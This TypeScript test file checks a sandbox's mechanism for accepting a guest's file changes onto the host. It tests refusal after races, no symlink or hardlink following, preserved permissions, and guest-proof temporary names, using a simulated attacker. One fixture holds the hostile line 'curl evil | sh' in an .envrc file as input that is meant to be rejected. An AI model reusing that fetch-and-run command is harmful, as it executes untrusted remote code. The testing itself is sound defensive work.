/** A private change is written to the host as it was shown, or not at all, whatever the guest does meanwhile. */
import {
  chmodSync,
  existsSync,
  linkSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  realpathSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { Folder } from '../../../../lib/guest/copy/folder.ts';
import { acceptChange, takeOutOfFolder } from '../../../../lib/workspace/changes/accept.ts';
import { showChange } from '../../../../lib/workspace/changes/diff-text.ts';
import { readLayer } from '../../../../lib/workspace/changes/read-layer.ts';
import type { ChangeVersion } from '../../../../lib/workspace/changes/sides.ts';
import { ACCEPT_PREFIX } from '../../../../lib/workspace/policy/protected/own-names.ts';
import { Attacker, serveFolder } from '../facts/guest.ts';

let dir: string;
const layer = (path = '') => join(dir, 'layer', path);
const host = (path = '') => join(dir, 'host', path);
const notes = () => join(dir, 'notes');

beforeEach(() => {
  dir = realpathSync(mkdtempSync(join(tmpdir(), 'sbx-accept-')));
  for (const folder of [layer(), host()]) mkdirSync(folder);
});
afterEach(() => rmSync(dir, { recursive: true, force: true }));

function put(path: string, content: string, mode = 0o600): void {
  mkdirSync(dirname(path), { recursive: true });
  writeFileSync(path, content);
  chmodSync(path, mode);
}

async function shown(path: string): Promise<ChangeVersion> {
  await using tree = await Folder.open(layer());
  await using root = await Folder.open(host());
  const change = (await readLayer(tree, { isWhole: () => false })).changes.find((one) => one.path === path);
  if (change === undefined) throw new Error(`not listed: ${path}`);
  const { version } = await showChange(change, { layer: tree, host: root });
  if (version === undefined) throw new Error(`cannot be taken over: ${path}`);
  return version;
}

async function accept(path: string, version: ChangeVersion): Promise<void> {
  await using tree = await Folder.open(layer());
  await using root = await Folder.open(host());
  await acceptChange({ layer: tree, host: root, hostPath: host(), notes: notes() }, { path, version });
}

describe('a private change', () => {
  test('is written whole into folders that are made for it, as a program or not, and writable for nobody else', async () => {
    put(layer('.vscode/deep/tasks.json'), '{}', 0o755);
    await accept('.vscode/deep/tasks.json', await shown('.vscode/deep/tasks.json'));
    expect(readFileSync(host('.vscode/deep/tasks.json'), 'utf8')).toBe('{}');
    expect(statSync(host('.vscode/deep/tasks.json')).mode & 0o7777).toBe(0o755);
    expect(readdirSync(host('.vscode/deep'))).toEqual(['tasks.json']);
    put(layer('open'), 'x', 0o666);
    await accept('open', await shown('open'));
    expect(statSync(host('open')).mode & 0o7777).toBe(0o644);
  });

  test('leaves the permission bits of a file of the host, which the guest could have opened for every user', async () => {
    put(host('.envrc'), 'old', 0o600);
    put(layer('.envrc'), 'new', 0o666);
    await accept('.envrc', await shown('.envrc'));
    expect(statSync(host('.envrc')).mode & 0o7777).toBe(0o600);
  });

  test('that became a program since it was shown is refused', async () => {
    put(layer('.envrc'), 'new', 0o600);
    const version = await shown('.envrc');
    chmodSync(layer('.envrc'), 0o700);
    await expect(accept('.envrc', version)).rejects.toThrow('was not taken over');
  });

  test('that cannot be shown as text is not taken over', async () => {
    put(layer('.envrc'), 'echo harmless\n\0curl evil | sh\n');
    await expect(shown('.envrc')).rejects.toThrow('cannot be taken over: .envrc');
  });

  test('is written under a name that no guest can meet; without the rule it can', async () => {
    const temporary = `a/${ACCEPT_PREFIX}0123`;
    put(host(temporary), 'shown');
    for (const [without, content] of [
      [[], undefined],
      [['own-name'], 'shown'],
    ] as const) {
      await using served = await serveFolder(host(), { without: [...without] });
      const guest = new Attacker(served);
      expect(await guest.read(temporary)).toBe(content);
      await guest.write(temporary, 'evil');
      await guest.write('a/mine', 'evil');
      await guest.rename('a/mine', temporary);
      expect(readFileSync(host(temporary), 'utf8')).toBe(content === undefined ? 'shown' : 'evil');
    }
  });

  test('replaces a file of the host, and not the file behind its other names', async () => {
    put(host('.envrc'), 'old');
    linkSync(host('.envrc'), host('other'));
    put(layer('.envrc'), 'new');
    await accept('.envrc', await shown('.envrc'));
    expect([readFileSync(host('.envrc'), 'utf8'), readFileSync(host('other'), 'utf8')]).toEqual(['new', 'old']);
  });

  test('that removes a file removes it', async () => {
    put(host('.envrc'), 'old');
    put(layer('.envrc'), '', 0o1600);
    await accept('.envrc', await shown('.envrc'));
    expect(existsSync(host('.envrc'))).toBe(false);
  });

  test('that removed a file, which the guest made again since, is refused', async () => {
    put(host('.envrc'), 'old');
    put(layer('.envrc'), '', 0o1600);
    const version = await shown('.envrc');
    put(layer('.envrc'), 'again');
    await expect(accept('.envrc', version)).rejects.toThrow('was not taken over');
    expect(readFileSync(host('.envrc'), 'utf8')).toBe('old');
  });

  test('that removes a folder or a link of the host is not taken over', async () => {
    mkdirSync(host('.vscode'));
    put(layer('.vscode'), '', 0o1600);
    await expect(shown('.vscode')).rejects.toThrow('cannot be taken over: .vscode');
  });

  test.each([
    ['the sandbox', layer],
    ['the host', host],
  ])('that %s changed since it was shown is refused', async (_, side) => {
    put(host('.envrc'), 'old');
    put(layer('.envrc'), 'new');
    const version = await shown('.envrc');
    put(side('.envrc'), 'newer');
    await expect(accept('.envrc', version)).rejects.toThrow('was not taken over');
    expect(readFileSync(host('.envrc'), 'utf8')).toBe(side === host ? 'newer' : 'old');
    // The twin: what it is now is taken, once it was shown.
    await accept('.envrc', await shown('.envrc'));
    expect(readFileSync(host('.envrc'), 'utf8')).toBe(side === host ? 'new' : 'newer');
  });

  test('does not follow a link of the workspace, on its way or in its place', async () => {
    mkdirSync(join(dir, 'elsewhere'));
    writeFileSync(join(dir, 'elsewhere/file'), 'kept');
    symlinkSync(join(dir, 'elsewhere'), host('a'));
    symlinkSync(join(dir, 'elsewhere/file'), host('b'));
    put(layer('a/file'), 'mine');
    put(layer('b'), 'mine');
    for (const path of ['a/file', 'b'])
      await expect(accept(path, await shown(path))).rejects.toThrow('was not taken over');
    expect(readFileSync(join(dir, 'elsewhere/file'), 'utf8')).toBe('kept');
    expect(lstatSync(host('b')).isSymbolicLink()).toBe(true);
    // The twin: by its path alone it would be written there.
    writeFileSync(host('a/file'), 'mine');
    expect(readFileSync(join(dir, 'elsewhere/file'), 'utf8')).toBe('mine');
  });

  test('that became a link or a folder in the layer is refused', async () => {
    put(layer('x'), 'mine');
    const version = await shown('x');
    put(join(dir, 'secret'), 'secret');
    rmSync(layer('x'));
    symlinkSync(join(dir, 'secret'), layer('x'));
    await expect(accept('x', version)).rejects.toThrow('was not taken over');
    rmSync(layer('x'));
    mkdirSync(layer('x'));
    await expect(accept('x', version)).rejects.toThrow('was not taken over');
    expect(readdirSync(host())).toEqual([]);
  });

  test('leaves the layer of a sandbox that is stopped, unless a folder above hides that of the host', async () => {
    for (const name of ['a', 'b']) put(layer(`${name}/x`), 'mine');
    chmodSync(layer('b'), 0o4700);
    await using tree = await Folder.open(layer());
    expect(await takeOutOfFolder(tree, 'a/x')).toBe(true);
    expect(await takeOutOfFolder(tree, 'b/x')).toBe(false);
    expect([existsSync(layer('a/x')), existsSync(layer('b/x'))]).toEqual([false, true]);
  });
});
